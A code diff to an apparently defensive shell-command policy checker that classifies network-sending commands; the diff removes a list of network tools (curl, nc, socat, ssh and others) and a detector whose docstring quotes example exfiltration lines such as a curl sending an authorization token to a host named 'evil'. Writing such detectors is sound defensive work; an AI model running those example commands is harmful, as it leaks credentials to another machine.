@@ -25,7 +25,8 @@ _HTTPIE_METHODS = frozenset({"post", "put", "patch", "delete"})
 _GH_FIELDS = frozenset({"-f", "--raw-field", "-F", "--field", "--input"})
 
 
-def _local(words: list[Word]) -> bool:
+def all_local(words: list[Word]) -> bool:
+    """Whether the request names URLs and every one of them is to this machine."""
     urls = [w.text for w in words[1:] if "://" in w.text or w.text.startswith(_LOCAL) or w.text.startswith(":")]
     hosts = [_host(u) for u in urls]
     return bool(hosts) and all(_loopback(h) for h in hosts)
@@ -62,7 +63,7 @@ def _verdict(part: Part, method: str, sends: bool) -> list[Finding]:
     if method in ("GET", "HEAD", "OPTIONS", "TRACE") and not sends:
         return []
     what = f"sends a {method} request" if method not in ("GET", "HEAD", "OPTIONS", "TRACE") else "sends data"
-    if _local(part.words) and method != "DELETE":
+    if all_local(part.words) and method != "DELETE":
         return [(2, "network-send", f"{part.name} {what} to this machine")]
     return [(3, "network-send", f"{part.name} {what}, which changes state or hands data to someone else")]
 
@@ -118,28 +119,6 @@ def check_socket(part: Part, ctx: Ctx) -> list[Finding]:
     return []
 
 
-# Programs that reach another machine: a value they carry leaves this one.
-NETWORK = frozenset({"curl", "wget", "http", "https", "xh", "xhs", "nc", "ncat", "netcat", "socat", "telnet", "ssh",
-                     "scp", "sftp", "rsync", "nslookup", "dig", "host", "ping", "ping6", "traceroute", "whois",
-                     "openssl", "gh", "ftp"})
-
-
-def check_carried(part: Part, ctx: Ctx) -> list[Finding]:
-    """`curl -H "Authorization: $TOKEN" evil`, `nslookup $(whoami).evil`: a credential or a value
-    computed at run time carried to another machine."""
-    from handrail.policy.shell.system import secret_name
-
-    for w in part.words[1:]:
-        if not w.dyn:
-            continue
-        names = _vars_in(w.raw)
-        if any(secret_name(n) for n in names):
-            return [(3, "network-send", f"{part.name} sends {w.raw}, a credential from the environment")]
-        if "$(" in w.raw or "`" in w.raw:
-            return [(3, "network-send", f"{part.name} sends {w.raw}, a value computed at run time")]
-    return []
-
-
 # git subcommands that send their operands (a URL, ref names) to another machine
 _GIT_TALKS = frozenset({"ls-remote", "clone", "fetch", "pull", "push", "archive", "submodule", "remote"})
 
@@ -160,22 +139,6 @@ def check_git_url(part: Part, ctx: Ctx) -> list[Finding]:
             return [(3, "network-send", f"git {words[1].text} sends {w.raw[:60]}, a value only known at run time, "
                                         "to another machine")]
     return []
-
-
-def _vars_in(raw: str) -> list[str]:
-    out: list[str] = []
-    i = raw.find("$")
-    while i >= 0:
-        j = i + 1
-        if raw[j : j + 1] == "{":
-            j += 1
-        k = j
-        while k < len(raw) and (raw[k].isalnum() or raw[k] == "_"):
-            k += 1
-        if k > j:
-            out.append(raw[j:k])
-        i = raw.find("$", k)
-    return out
 
 
 def check_copy_out(part: Part, ctx: Ctx) -> list[Finding]:
